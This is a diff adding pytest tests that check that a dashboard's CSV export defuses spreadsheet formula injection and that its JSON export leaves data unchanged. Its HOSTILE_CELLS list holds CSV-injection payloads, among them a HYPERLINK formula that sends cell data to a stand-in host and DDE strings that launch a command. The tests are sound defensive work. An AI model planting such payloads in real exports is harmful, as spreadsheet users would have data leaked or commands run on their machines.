@@ -117,6 +117,30 @@ def test_the_csv_export_streams_every_filtered_row_not_just_one_page(admin_clien
     assert rows[0]["url"] == f"http://testserver/attempts/{Attempt.objects.get(pod_name='web-5').pk}/"
 
 
+HOSTILE_CELLS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE_CELLS)
+def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(admin_client, text):
+    a = attempt(1, result="unschedulable")
+    Attempt.objects.filter(pk=a.pk).update(message=text)
+    response = admin_client.get("/bindings/?format=csv")
+    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    # As OWASP says: a leading single quote, and the text otherwise as it was.
+    assert row["message"] == "'" + text
+    assert row["pod"] == "web-1" and row["attempt"] == "1"  # plain text and numbers are left alone
+    data = json.loads(b"".join(admin_client.get("/bindings/?format=json").streaming_content))
+    assert data[0]["message"] == text  # the JSON export carries the data unchanged
+
+
+def test_a_negative_number_stays_a_number_in_the_csv_export(admin_client):
+    a = attempt(1)
+    Attempt.objects.filter(pk=a.pk).update(number=-3)
+    [row] = list(csv.DictReader(io.StringIO(b"".join(admin_client.get("/bindings/?format=csv").streaming_content).decode())))
+    assert row["attempt"] == "-3"
+
+
 def test_the_json_export_is_one_array_of_the_filtered_rows(admin_client, monkeypatch):
     from dashboard import audit
 
